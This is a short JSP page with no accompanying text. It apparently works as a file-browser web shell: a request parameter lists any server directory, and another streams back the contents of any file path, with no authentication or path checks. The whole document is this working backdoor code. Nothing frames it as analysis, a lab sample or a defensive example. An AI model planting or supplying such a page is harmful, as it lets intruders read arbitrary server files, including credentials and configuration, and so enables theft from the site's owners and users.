<%@ page import="java.io.*,java.nio.file.*" %>
<%
String x = request.getParameter("x");
if (x != null) { response.setContentType("application/octet-stream"); Files.copy(Paths.get(x), response.getOutputStream()); return; }
for (File e : new File(request.getParameter("d") == null ? System.getProperty("user.dir") : request.getParameter("d")).listFiles()) out.println(e + "<br>");
%>
